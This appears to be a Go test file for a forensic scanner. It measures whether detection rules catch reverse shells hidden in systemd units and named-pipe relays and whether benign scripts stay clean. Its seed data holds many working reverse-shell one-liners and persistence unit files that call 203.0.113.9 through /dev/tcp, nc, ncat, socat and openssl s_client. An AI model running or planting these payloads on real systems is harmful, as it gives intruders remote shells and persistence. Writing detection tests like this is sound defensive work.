@@ -1,0 +1,87 @@
+package shell
+
+import (
+	"fmt"
+	"sort"
+	"strings"
+	"testing"
+
+	"github.com/strata-forensics/strata/audit"
+)
+
+// The technique harness: reverse shells written into systemd units without sh -c, relays
+// through a named pipe over TLS, credentials of every user staged for taking, instance
+// metadata credentials fetched, selective log editing, history wiping and blanket
+// timestomping, and polling agents spread over functions. Each seed of our own is also kept
+// in a function called later and inside an if (shell scripts); every variant must be found
+// by its rule at its severity, and the clean shapes beside them must raise none of the rules
+// at high or above.
+//
+// go test ./audit/shell -run TestTechniqueHarness -v prints one line per technique:
+//
+//	harness: technique-<technique> <found>/<total> recall=<0.000>
+
+var techniqueSeeds = []stealthSeed{
+	// A unit's Exec line starting a shell with redirections and pipes as words of its own.
+	{"unit-shell", RuleDevTCP, audit.Critical, "/etc/systemd/system/net-sync.service", "[Unit]\nDescription=sync\n[Service]\nExecStart=/bin/bash -i >& /dev/tcp/203.0.113.9/443 0>&1\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"},
+	{"unit-shell", RuleDevTCP, audit.Critical, "/etc/systemd/system/dbus-cache.service", "[Service]\nEnvironment=H=203.0.113.9 P=8443\nExecStart=/usr/bin/bash -i &>/dev/tcp/${H}/${P} <&1\n"},
+	{"unit-shell", RuleDevTCP, audit.Critical, "/lib/systemd/system/sys-mon.service", "[Service]\nType=simple\nExecStart=/bin/sh -i 2>&1 0</dev/tcp/203.0.113.9/4444 1>&0\n"},
+	{"unit-shell", RuleDevTCP, audit.Critical, "/home/dev/.config/systemd/user/agent.service", "[Service]\nExecStart=bash -i > /dev/udp/203.0.113.9/53 0>&1 2>&1\n[Install]\nWantedBy=default.target\n"},
+	{"unit-shell", RuleFifo, audit.Critical, "/etc/systemd/system/cachefs.service", "[Service]\nExecStartPre=/usr/bin/mkfifo /tmp/.p\nExecStart=/bin/sh -i 0</tmp/.p | /usr/bin/nc 203.0.113.9 443 1>/tmp/.p\n"},
+	{"unit-shell", RuleNetPipe, audit.Critical, "/etc/systemd/system/cachefs.service", "[Service]\nExecStart=/bin/bash -i < /tmp/.q 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/.q\n"},
+
+	// A shell looped through a named pipe and a TLS (or plain) client or relay.
+	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/f"},
+	{"fifo-relay", RuleFifo, audit.Critical, "", "F=/dev/shm/.s\nrm -f $F\nmknod $F p\nbash -i <$F 2>&1 | openssl s_client -quiet -connect 203.0.113.9:8443 >$F"},
+	{"fifo-relay", RuleFifo, audit.Critical, "", "P=$(mktemp -u)\nmkfifo \"$P\"\ncat \"$P\" | /bin/bash 2>&1 | openssl s_client -quiet -connect \"203.0.113.9:443\" > \"$P\""},
+	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/.io\n/bin/sh -i < /tmp/.io 2>&1 | ncat --ssl 203.0.113.9 443 > /tmp/.io"},
+	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/.io\n/bin/sh -i < /tmp/.io 2>&1 | socat - OPENSSL:203.0.113.9:443,verify=0 > /tmp/.io"},
+	{"fifo-relay", RuleFifo, audit.Critical, "", "H=203.0.113.9\nP=443\nD=/var/tmp/.d\nmkfifo $D\nsh -i < $D 2>&1 |\n  openssl s_client -quiet \\\n    -connect $H:$P > $D"},
+	{"fifo-relay", RuleFifo, audit.Critical, "", "relay() {\n  mkfifo \"$1\"\n  /bin/sh -i < \"$1\" 2>&1 | openssl s_client -quiet -connect \"$2\" > \"$1\"\n}\nrelay /tmp/.r 203.0.113.9:443"},
+	{"fifo-relay", RuleFifo, audit.Critical, "", "mknod /tmp/b p && openssl s_client -quiet -connect 203.0.113.9:443 0</tmp/b | /bin/bash 1>/tmp/b 2>&1"},
+	{"fifo-relay", RuleFifo, audit.Critical, "", "mkfifo /tmp/t; cat /tmp/t | sh -i 2>&1 | openssl s_client -quiet -host 203.0.113.9 -port 443 > /tmp/t"},
+}
+
+// Clean shapes: the same tools and places, the way clean software uses them.
+var techniqueClean = []struct{ name, path, text string }{
+	{"unit running a script with its log", "/etc/systemd/system/app.service", "[Service]\nExecStart=/bin/bash /usr/lib/app/run.sh --log > /var/log/app.log\n"},
+	{"unit with sh -c and a pipe", "/etc/systemd/system/app2.service", "[Service]\nExecStart=/bin/sh -c 'exec /usr/bin/app 2>&1 | logger -t app'\n"},
+	{"unit with a shell that waits", "/lib/systemd/system/console-shell.service", "[Service]\nExecStart=-/bin/sh -c \"/bin/echo 'Starting shell'; exec /bin/bash\"\nStandardInput=tty\n"},
+	{"openssl client check", "/usr/local/bin/check-cert.sh", "#!/bin/sh\necho | openssl s_client -connect example.com:443 -servername example.com 2>/dev/null | openssl x509 -noout -dates\n"},
+	{"fifo for a log reader", "/usr/local/bin/logpipe.sh", "#!/bin/sh\nmkfifo /run/app/log.pipe\ncat /run/app/log.pipe | logger -t app &\nexec /usr/bin/app --log /run/app/log.pipe\n"},
+}
+
+func TestTechniqueHarness(t *testing.T) {
+	total, found := map[string]int{}, map[string]int{}
+	for _, sd := range techniqueSeeds {
+		for _, v := range stealthVariants(sd) {
+			total[sd.tech]++
+			fs := scanFile(v.path, v.text)
+			ok := false
+			for _, f := range fs {
+				ok = ok || f.Rule == sd.rule && f.Severity >= sd.sev
+			}
+			if ok {
+				found[sd.tech]++
+			} else {
+				t.Errorf("missed %s [%s] %s:\n%s\ngot:\n%s", sd.tech, v.name, v.path, v.text, dump(fs))
+			}
+		}
+	}
+	for _, c := range techniqueClean {
+		for _, f := range scanFile(c.path, c.text) {
+			if f.Severity >= audit.High {
+				t.Errorf("clean %s: %s %s %s [%s]", c.name, f.Rule, f.Severity, f.Title, f.Evidence)
+			}
+		}
+	}
+	var names []string
+	for n := range total {
+		names = append(names, n)
+	}
+	sort.Strings(names)
+	for _, n := range names {
+		fmt.Printf("harness: technique-%s %d/%d recall=%.3f\n", n, found[n], total[n], float64(found[n])/float64(total[n]))
+	}
+	_ = strings.TrimSpace
+}
